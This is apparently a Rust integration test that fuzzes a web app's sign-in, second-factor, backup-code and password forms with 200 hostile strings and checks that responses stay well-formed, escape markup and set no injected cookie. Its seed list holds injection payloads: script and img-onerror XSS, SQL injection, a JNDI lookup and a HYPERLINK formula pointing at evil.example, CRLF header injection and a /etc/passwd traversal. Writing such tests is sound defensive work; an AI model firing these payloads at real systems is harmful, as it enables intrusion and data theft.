//! Two hundred hostile strings in every field of every form: an answer each, and none of them becomes markup.

use crate::{browser::Browser, installation::Installation};

/// A browser that may send a form, where to, and fields that leave everything as it is.
type Form<'a> = (&'a Browser, &'a str, &'a [(&'a str, &'a str)]);

const SEEDS: [&str; 25] = [
    "",
    " ",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%00",
    "\u{0}",
    "\r\nSet-Cookie: countersign=x",
    "\u{1b}[31mred",
    "\u{202e}txt.exe",
    "\u{200b}\u{200d}\u{feff}",
    "=HYPERLINK(\"http://evil.example\")",
    "../../../etc/passwd",
    "\u{fffd}\u{fffe}\u{ffff}",
    "𝓪𝓵𝓲𝓬𝓮",
    "ａｌｉｃｅ",
    "-1",
    "99999999999999999999999999",
    "NaN",
    "null",
    "x-y=z&csrf=1&login=2",
    "٤٥٦٧٨٩",
];

/// The seeds in eight dresses: two hundred.
fn strings() -> Vec<String> {
    let long = "long".repeat(3000);
    SEEDS
        .iter()
        .flat_map(|seed| {
            [
                (*seed).to_owned(),
                format!("alice{seed}"),
                format!("{seed}@example.com"),
                seed.repeat(50),
                seed.to_uppercase(),
                format!("123456{seed}"),
                format!("04-7KQ2MX4-TRW9PHC{seed}"),
                format!("{seed}{}", &long[..long.len() / 8]),
            ]
        })
        .collect()
}

#[test]
fn two_hundred_hostile_strings_in_every_field_are_answered_and_escaped() {
    let strings = strings();
    assert_eq!(strings.len(), 200);
    let here = Installation::new();
    let alice = here.person("alice");
    here.add_user("nina");
    let mut setup = here.browser();
    setup.follow(&here.setup_link()).expect(200);
    let mut welcome = here.browser();
    welcome.follow(&here.link("nina")).expect(200);
    let mut outside = here.browser();
    outside.get("/sign-in");
    let mut inside = here.signed_in(&alice);
    let half = here.half(&alice);
    let codes = alice.sheet.join("\n");
    let good: &str = "differs from the other";
    let forms: [Form<'_>; 10] = [
        (&setup, "/setup", &[("email", "o@example.com"), ("password", "short"), ("again", good)]),
        (&welcome, "/welcome", &[("password", "short"), ("again", good)]),
        (&outside, "/sign-in", &[("login", "alice"), ("password", "wrong")]),
        (&half, "/sign-in/second-factor", &[("code", ""), ("next_code", ""), ("tries", "2"), ("csrf", &half.csrf)]),
        (&half, "/sign-in/backup-code", &[("code", "")]),
        (&half, "/sign-in/temporary-pass", &[("code", "")]),
        (&inside, "/me/confirm", &[("code", "")]),
        (&inside, "/me/backup-codes/prove", &[("codes", &codes), ("proof", "")]),
        (&inside, "/me/backup-codes/download", &[("codes", &codes)]),
        (&inside, "/me/password", &[("current", "wrong"), ("password", "short"), ("again", good)]),
    ];
    for (browser, path, fields) in forms {
        for (field, _) in fields {
            for string in &strings {
                let filled: Vec<(&str, &str)> = fields
                    .iter()
                    .map(|(name, value)| (*name, if name == field { string.as_str() } else { *value }))
                    .collect();
                let answer = browser.clone().post(path, &filled);
                assert!([200, 303, 400, 403, 413].contains(&answer.status), "{path} {field} {string:?}: {answer:?}");
                for mark in ["<script>alert", "<img", "onerror=alert(1)>\""] {
                    assert!(!answer.body.contains(mark), "{path} {field} {string:?}");
                }
                let planted = answer.headers.iter().any(|(name, value)| name == "set-cookie" && value.contains("=x;"));
                assert!(!planted, "{path} {field} {string:?}");
            }
        }
    }
    inside.get("/me/security").expect(200);
}
